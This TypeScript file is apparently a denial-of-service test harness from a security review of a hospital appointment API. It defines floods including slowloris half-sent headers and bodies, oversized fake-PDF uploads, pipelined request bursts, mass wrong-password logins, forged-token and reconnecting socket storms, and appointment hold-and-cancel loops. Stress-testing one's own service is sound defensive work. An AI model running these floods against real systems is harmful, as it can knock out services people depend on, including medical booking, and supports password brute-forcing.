import { randomBytes, randomUUID } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { io, type Socket as RecordSocket } from 'socket.io-client';
import { recordNamespace } from '../../../shared/src/core/record-socket.constants.ts';
import { attempts, breath, localAddress, type Flood, type Target } from './attacker.ts';
import { rawFloods } from './raw-sockets.ts';

interface Sent {
  method: string;
  path: string;
  body?: Buffer;
  headers?: Record<string, string>;
}

/** Returns the body of the answer; empty for none. */
function send(agent: Agent, { url }: Target, { method, path, body, headers = {} }: Sent): Promise<string> {
  attempts.count += 1;
  return new Promise((done) => {
    const sending = request(url + path, { agent, method, headers, localAddress }, (answer) => {
      let text = '';
      answer.setEncoding('utf8').on('data', (part: string) => (text += part));
      answer.on('error', () => done('')).on('end', () => done(text));
    });
    sending.on('error', () => done(''));
    sending.end(body);
  });
}

/** Keeps the given number of requests in flight. */
const stream =
  (atOnce: number, make: (target: Target) => Sent): Flood =>
  async (target, signal) => {
    const agent = new Agent({ keepAlive: true, maxSockets: atOnce });
    const sender = async () => {
      while (!signal.aborted) await send(agent, target, make(target));
    };
    await Promise.all(Array.from({ length: atOnce }, sender));
    agent.destroy();
  };

/** Keeps the given number of connections with unfinished requests open; replaces those that the api closes. */
const unfinished =
  (atOnce: number, head: (target: Target) => string, more = 0): Flood =>
  async ({ url, ...rest }, signal) => {
    const { hostname, port } = new URL(url);
    const open = new Set<Socket>();
    const filler = Buffer.alloc(more);
    while (!signal.aborted) {
      for (let free = Math.min(atOnce - open.size, 200); free > 0; free--) {
        const socket = connect({ host: hostname, port: Number(port), localAddress });
        attempts.count += 1;
        open.add(socket);
        socket.on('error', () => undefined).on('close', () => open.delete(socket));
        socket.resume().write(head({ url, ...rest }));
        if (more > 0) socket.write(filler);
      }
      await breath(50);
    }
    for (const socket of open) socket.destroy();
  };

/** Keeps as many record sockets open as the api allows, each opened again whenever it is closed or refused. */
function recordSockets({ url, accessToken }: Target, signal: AbortSignal, count: number): RecordSocket[] {
  return Array.from({ length: count }, () => {
    const socket = io(url + recordNamespace, {
      auth: { accessToken },
      transports: ['websocket'],
      forceNew: true,
      reconnection: false,
      localAddress,
    } as Parameters<typeof io>[1]);
    const again = () => {
      attempts.count += 1;
      if (!signal.aborted) setTimeout(() => socket.connect(), 20);
    };
    socket.on('disconnect', again).on('connect_error', again);
    return socket;
  });
}

const bearer = ({ accessToken }: Target) => ({ authorization: `Bearer ${accessToken}` });
const json = { 'content-type': 'application/json' };
const wideObject = Buffer.from(
  JSON.stringify(Object.fromEntries(Array.from({ length: 12_000 }, (_, at) => [`member-${at}`, [[[at]]]]))),
);
const fiveMegabytes = Buffer.concat([
  Buffer.from('%PDF-1.7\n'),
  Buffer.from('1 0 obj<<'.repeat(555_000)),
  Buffer.from('%%EOF'),
]);

async function renewals(target: Target, signal: AbortSignal): Promise<void> {
  const { accessToken } = target;
  const sockets = recordSockets(target, signal, 4);
  while (!signal.aborted) {
    for (const socket of sockets) {
      if (!socket.connected) continue;
      for (let n = 0; n < 13; n++) socket.emit('renew', { accessToken });
      attempts.count += 13;
    }
    await breath(50);
  }
  for (const socket of sockets) socket.close();
}

/** Connects with a valid token and closes at once, over and over. */
async function connections(target: Target, signal: AbortSignal): Promise<void> {
  const sockets = recordSockets(target, signal, 40);
  for (const socket of sockets) socket.on('connect', () => socket.disconnect());
  while (!signal.aborted) await breath(100);
  for (const socket of sockets) socket.close();
}

/** Sends requests one after the other on each connection without reading the answers. */
async function pipelined({ url }: Target, signal: AbortSignal): Promise<void> {
  const { hostname, port } = new URL(url);
  const many = 'GET /api/hospitals HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(500);
  const connection = (): void => {
    if (signal.aborted) return;
    const socket = connect({ host: hostname, port: Number(port), localAddress });
    const write = () => {
      attempts.count += 500;
      socket.write(many);
    };
    socket.on('error', () => undefined).on('close', () => setTimeout(connection, 20));
    socket.on('connect', write).on('drain', write).resume();
    signal.addEventListener('abort', () => socket.destroy(), { once: true });
  };
  for (let n = 0; n < 20; n++) connection();
  while (!signal.aborted) await breath(100);
}

/** Holds each free time and lets go of it, so that every request writes notices, audit entries and events. */
async function holds(target: Target, signal: AbortSignal): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: 4 });
  const headers = { ...bearer(target), ...json };
  const sender = async (first: number) => {
    for (let n = first; !signal.aborted; n += 4) {
      const { doctorId, departmentId, slots } = target;
      const wanted = JSON.stringify({ doctorId, departmentId, startsAt: slots[n % slots.length] });
      const held = await send(agent, target, {
        method: 'POST',
        path: '/api/appointments',
        body: Buffer.from(wanted),
        headers,
      });
      const [, id] = /"id":"([\w-]{36})"/.exec(held) ?? [];
      if (!id) continue;
      const path = `/api/appointments/${id}/cancellation`;
      await send(agent, target, { method: 'POST', path, body: Buffer.from('{}'), headers });
    }
  };
  await Promise.all([0, 1, 2, 3].map(sender));
  agent.destroy();
}

/** The floods of the security review, and from “wide bodies” on eight more. */
export const floods: Readonly<Record<string, Flood>> = {
  'renewals on the record socket': renewals,
  'files with idempotency keys': stream(12, ({ hospital }) => ({
    method: 'POST',
    path: `/api/hospitals/${hospital}/file-verifications`,
    body: fiveMegabytes,
    headers: { 'content-type': 'application/pdf', 'idempotency-key': randomUUID() },
  })),
  'half-sent bodies': unfinished(
    150,
    ({ hospital }) =>
      `POST /api/hospitals/${hospital}/file-verifications HTTP/1.1\r\nHost: x\r\nContent-Type: application/pdf\r\nContent-Length: 5000000\r\n\r\n`,
    4_000_000,
  ),
  'half-sent headers': unfinished(4000, () => 'GET / HTTP/1.1\r\nHost: x\r\nX-Slow: '),
  'wrong passwords': stream(50, ({ hospital }) => ({
    method: 'POST',
    path: '/api/sessions',
    body: Buffer.from(
      JSON.stringify({ hospital, email: `${randomUUID()}@example.test`, password: 'not the password' }),
    ),
    headers: json,
  })),
  'requests that are refused': stream(50, (target) => ({
    method: 'GET',
    path: `/api/visits/${randomUUID()}`,
    headers: bearer(target),
  })),
  'holding and letting go of appointments': holds,
  'wide bodies': stream(20, (target) => ({
    method: 'POST',
    path: '/api/visits',
    body: wideObject,
    headers: { ...bearer(target), ...json },
  })),
  'sockets with forged tokens': async ({ url }, signal) => {
    while (!signal.aborted) {
      const sockets = Array.from({ length: 30 }, () =>
        io(url + recordNamespace, {
          auth: { accessToken: `${randomBytes(40).toString('base64url')}.${randomUUID()}.x` },
          transports: ['websocket'],
          forceNew: true,
          reconnection: false,
          localAddress,
        } as Parameters<typeof io>[1]),
      );
      attempts.count += sockets.length;
      await breath(100);
      for (const socket of sockets) socket.close();
    }
  },
  'sockets that connect again and again': connections,
  'requests in one go': pipelined,
  'searches and free times': stream(30, (target) => ({
    method: 'GET',
    path:
      Math.random() < 0.5
        ? `/api/icd10-codes?q=${encodeURIComponent('of the '.repeat(8))}`
        : `/api/doctors/${target.doctorId}/slots?days=14`,
    headers: bearer(target),
  })),
  ...rawFloods,
};
